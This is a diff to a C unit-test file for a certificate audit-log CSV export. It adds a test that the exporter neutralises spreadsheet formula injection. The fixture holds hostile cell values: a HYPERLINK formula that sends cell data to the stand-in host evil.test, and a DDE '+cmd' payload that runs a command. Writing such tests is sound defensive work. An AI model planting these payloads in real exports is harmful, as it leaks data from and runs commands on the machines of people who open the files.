@@ -299,10 +299,11 @@ static void test_export(void **state)
 	fclose(out);
 	assert_int_equal(n, 10);
 	assert_int_equal(count_lines(buf), 11);
-	assert_true(strncmp(buf, "seq,time,actor,action,serial,names,details,prev\r\n", 49) == 0);
+	assert_true(strncmp(buf, "seq,time,actor,action,serial,names,details,hash,prev\r\n", 54) == 0);
+	/* plain values: names joined by spaces, details as key=value pairs */
 	assert_non_null(strstr(buf, "\r\n1,2026-01-01T00:00:00Z,cli:test,cert.issue,7f01,"
-				    "www.example.com example.com,"
-				    "\"{\"\"profile\"\":\"\"tls-server\"\",\"\"days\"\":90}\","));
+				    "www.example.com example.com,profile=tls-server; days=90,"));
+	assert_null(strstr(buf, "{"));
 	assert_non_null(strstr(buf, "\r\n10,2026-01-01T09:00:00Z,\"admin:a,b \"\"q\"\"\",cert.issue,"));
 	free(buf);
 
@@ -313,6 +314,75 @@ static void test_export(void **state)
 	fclose(out);
 	assert_int_equal(n, 2);
 	assert_int_equal(count_lines(buf), 3);
+	free(buf);
+}
+
+/* Events a spreadsheet must not evaluate: CN, names, actor and details from outside. */
+static int hostile_fn(db_txn_t *txn, void *arg, cairn_err_t *err)
+{
+	json_t *names = json_pack("[s, s, s]", "=HYPERLINK(\"http://evil.test/?\"&A1,\"x\")",
+				  "ok.example.test", "@SUM(1+1)");
+	json_t *details = json_pack("{s:s, s:{s:[i, s]}, s:b, s:n, s:{}}", "cn", "+cmd|' /C calc'!A0",
+				    "deep", "list", 7, "-2+3", "ok", 1, "none", "empty");
+	audit_event_t ev = { .actor = "\tacme:acct/1", .action = "cert.issue", .serial = "7f02",
+			     .names = names, .details = details };
+	int rc;
+	(void)arg;
+
+	rc = audit_append_at(txn, &ev, T0, NULL, err);
+	ev.actor = "\r=1+1";
+	ev.names = NULL;
+	json_object_clear(details);
+	json_object_set_new(details, "cn", json_string(" -1"));
+	if (rc == 0)
+		rc = audit_append_at(txn, &ev, T0 + 1, NULL, err);
+	json_decref(names);
+	json_decref(details);
+	return rc;
+}
+
+/* Outside text in every column of the CSV report: no cell is read as a formula. */
+static void test_export_csv_injection(void **state)
+{
+	struct fixture *f = *state;
+	cairn_err_t err = { 0 };
+	uint64_t n = 0;
+	char *buf = NULL;
+	size_t len = 0;
+	FILE *out;
+
+	assert_int_equal(db_write(f->db, hostile_fn, NULL, &err), 0);
+	out = open_memstream(&buf, &len);
+	assert_int_equal(audit_export(f->db, out, AUDIT_FMT_CSV, 0, 0, &n, &err), 0);
+	fclose(out);
+	assert_int_equal(n, 2);
+	/* Every cell that starts with = + - @ tab CR (maybe after spaces) starts with ' */
+	assert_non_null(strstr(buf, "\r\n1,2026-01-01T00:00:00Z,'\tacme:acct/1,cert.issue,7f02,"
+				    "\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"x\"\")"
+				    " ok.example.test @SUM(1+1)\","
+				    "cn=+cmd|' /C calc'!A0; deep.list.0=7; deep.list.1=-2+3; ok=true; "
+				    "none=null; empty=,"));
+	assert_non_null(strstr(buf, "\r\n2,2026-01-01T00:00:01Z,\"'\r=1+1\",cert.issue,7f02,,"
+				    "cn= -1,"));
+	/* Only the cells' first characters matter: no cell starts with a formula character. */
+	{
+		const char *p = buf;
+		int in_quotes = 0, cell_start = 1;
+		for (; *p; p++) {
+			if (cell_start) {
+				const char *q = p + (*p == '"');
+				q += strspn(q, " ");
+				if (*q != '\0' && strchr("=+-@\t\r", *q) != NULL)
+					fail_msg("a cell starts with a formula character at offset %zu",
+						 (size_t)(p - buf));
+				cell_start = 0;
+			}
+			if (*p == '"')
+				in_quotes = !in_quotes;
+			else if (!in_quotes && (*p == ',' || *p == '\n'))
+				cell_start = 1;
+		}
+	}
 	free(buf);
 }
 
@@ -327,6 +397,7 @@ int main(void)
 		cmocka_unit_test_setup_teardown(test_append_after_tamper_still_detected, setup,
 						teardown),
 		cmocka_unit_test_setup_teardown(test_export, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_export_csv_injection, setup, teardown),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
